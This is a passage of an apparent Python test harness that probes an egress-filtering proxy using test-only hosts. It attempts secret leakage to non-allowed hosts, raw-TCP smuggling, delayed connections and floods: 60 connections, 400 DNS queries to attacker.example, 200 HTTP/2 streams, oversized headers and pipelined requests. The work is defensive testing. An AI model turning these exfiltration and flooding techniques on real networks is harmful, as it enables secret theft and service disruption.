    return exchange("allowed.test", PORT["tls"], req("GET", "https://%s/%s?key=%s" % (hp("secret.test", "tls"), m, SECRET),
                                                     hp("allowed.test", "tls")), sni="allowed.test")


@attack
def placeholder_cleartext_own_host(m):
    # The secret's own host, but without TLS: never substituted, refused.
    own = hp("secret.test", "tcp")
    return many(exchange("secret.test", PORT["tcp"], req("GET", "/" + m, own, [("Authorization", "Bearer " + SECRET)])),
                exchange("secret.test", PORT["tcp"], req("GET", "/%s?key=%s" % (m, SECRET), own)),
                exchange("secret.test", PORT["tcp"], req("GET", "/%s/%s" % (m, SECRET), own)),
                exchange("secret.test", PORT["tcp"], req("GET", "/" + m, own, [("Authorization", "Basic " + basic("user"))])))


@attack
def placeholder_cleartext_foreign(m):
    return exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("allowed.test", "tcp"), [("Authorization", "Bearer " + SECRET)]))


@attack
def plain_secret_to_other_hosts(m):
    # A secret declared for http://plain.test: over cleartext only to that host.
    if not PLAIN:
        return "not configured"
    return many(exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("allowed.test", "tcp"), [("Authorization", "Bearer " + PLAIN)])),
                exchange("allowed.test", PORT["tls"], req("GET", "/" + m, hp("allowed.test", "tls"), [("Authorization", "Bearer " + PLAIN)]),
                         sni="allowed.test"))


@attack
def placeholder_over_raw_relay(m):
    # The raw rule relays these bytes (the marker may arrive at raw.test), but a placeholder in raw
    # bytes is never replaced by the value.
    s = connect("raw.test", PORT["raw"])
    try:
        banner, _ = recv_reply(s, first=6.0, idle=0.3)
        s.sendall(("AUTH %s %s\r\n" % (SECRET, m)).encode())
        ack, _ = recv_reply(s, first=3.0, idle=0.3)
        return "%s / %s" % (summary(banner), summary(ack))
    finally:
        s.close()


# ---------------------------------------------------------------------------------------------
# Raw TCP: rules, shared addresses, unrecognised protocols


@attack
def raw_ssh_banner_to_allowed_host(m):
    return exchange("allowed.test", PORT["tcp"], ("SSH-2.0-OpenSSH_9.6 %s\r\n" % m).encode())


@attack
def raw_binary_to_allowed_host(m):
    return exchange("allowed.test", PORT["tcp"], b"\x00\x01\x02\xff" + m.encode() + b"\x00" * 32)


@attack
def raw_rule_shared_address(m):
    # rawshared.test has a raw rule, but its address is also forbidden.test's (and allowed.test's).
    s = connect("rawshared.test", PORT["raw_shared"])
    try:
        banner, _ = recv_reply(s, first=3.0, idle=0.3)
        s.sendall(("EHLO %s\r\n" % m).encode())
        rest, how = recv_reply(s, first=2.0)
        return "%s / %s [%s]" % (summary(banner), summary(rest), how)
    finally:
        s.close()


@attack
def raw_rule_wrong_port(m):
    return exchange("raw.test", PORT["raw_other"], ("EHLO %s\r\n" % m).encode())


@attack
def raw_rule_host_http_to_forbidden(m):
    return exchange("raw.test", PORT["raw"], req("GET", "/" + m, hp("forbidden.test", "raw")))


@attack
def raw_rule_host_tls_forbidden_sni(m):
    return exchange("raw.test", PORT["raw"], req("GET", "/" + m, hp("forbidden.test", "raw")), sni="forbidden.test")


# ---------------------------------------------------------------------------------------------
# Timing: nothing turns a connection raw by waiting


@attack
def tls_after_delay(m):
    return exchange("forbidden.test", PORT["tls"], req("GET", "/" + m, hp("forbidden.test", "tls")), delay=2.0, sni="forbidden.test")


@attack
def http_after_delay(m):
    return exchange("forbidden.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp")), delay=2.0)


@attack
def garbage_after_delay(m):
    return exchange("allowed.test", PORT["tcp"], ("hello %s\r\n" % m).encode(), delay=2.0)


@attack
def silent_client(m):
    # Say nothing; the proxy must close the connection (bounded) and never open one upstream.
    s = connect("allowed.test", PORT["silent"])
    t0 = time.time()
    try:
        data, how = recv_reply(s, first=float(CFG["silent_wait"]))
        waited = time.time() - t0
        if how == "closed" or how.startswith("error"):
            return "%s after %.1fs: %s" % (how, waited, summary(data))
        s.sendall(("late %s\r\n" % m).encode())
        late, how2 = recv_reply(s, first=2.0)
        return "still open after %.1fs: %s; late bytes -> %s [%s]" % (waited, summary(data), summary(late), how2)
    except OSError as e:
        return "%s after %.1fs" % (type(e).__name__, time.time() - t0)
    finally:
        s.close()


# ---------------------------------------------------------------------------------------------
# Floods


@attack
def flood_connections(m):
    socks, answers = [], {}
    for i in range(60):
        try:
            s = connect("forbidden.test", PORT["tcp"], timeout=3)
            s.sendall(req("GET", "/%s/%d" % (m, i), hp("forbidden.test", "tcp")))
            socks.append(s)
        except OSError as e:
            answers[type(e).__name__] = answers.get(type(e).__name__, 0) + 1
    for s in socks:
        data, how = recv_reply(s, first=3.0, idle=0.2)
        key = summary(data)[:12]
        answers[key] = answers.get(key, 0) + 1
        s.close()
    return json.dumps(answers)


@attack
def flood_dns_queries(m):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        for i in range(400):
            s.sendto(dns_query("q%d.%s.attacker.example" % (i, m)), (GW, 53))
        s.settimeout(1.0)
        replies = 0
        try:
            while True:
                s.recv(4096)
                replies += 1
        except socket.timeout:
            pass
        return "%d replies to 400 queries" % replies
    finally:
        s.close()


@attack
def flood_h2_streams(m):
    frames = [h2_headers(1 + 2 * i, h2_get(hp("forbidden.test", "tls"), "/%s/%d" % (m, i))) for i in range(200)]
    return h2_tls("allowed.test", PORT["tls"], "allowed.test", frames)[:300]


@attack
def flood_huge_header(m):
    return many(exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp"), [("X-Pad", m * 2000)])),
                exchange("allowed.test", PORT["tcp"], req("GET", "/" + m, hp("forbidden.test", "tcp"), [("X-Pad-%d" % i, m) for i in range(2000)])))


@attack
def flood_pipelined_requests(m):
    batch = b"".join(req("GET", "/%s/%d" % (m, i), hp("forbidden.test", "tcp")) for i in range(100))
    s = connect("allowed.test", PORT["tcp"])
    try:
        s.sendall(batch)
        data, how = recv_reply(s, first=T, idle=1.0)
        return "%d responses [%s]" % (data.count(b"HTTP/1.1 "), how)
    finally:
        s.close()


@control
def control_https_allowed_after_floods(c):
    return exchange("allowed.test", PORT["webs"], req("GET", "/" + c, hp("allowed.test", "webs")), sni="allowed.test")


def run(fn, kind, token):
    t0 = time.time()
    try:
        observed = fn(token)
    except Exception as e:
        observed = "exception %s: %s" % (type(e).__name__, e)
    print(json.dumps({kind: fn.__name__, "marker": token, "observed": str(observed)[:600],
                      "seconds": round(time.time() - t0, 1)}), flush=True)


def main():
    for fn in CONTROLS[:-1]:
        run(fn, "control", ctl(fn.__name__))
    for fn in ATTACKS:
        run(fn, "attack", mark(fn.__name__))
    run(CONTROLS[-1], "control", ctl(CONTROLS[-1].__name__))
    print(json.dumps({"done": len(ATTACKS)}), flush=True)


main()
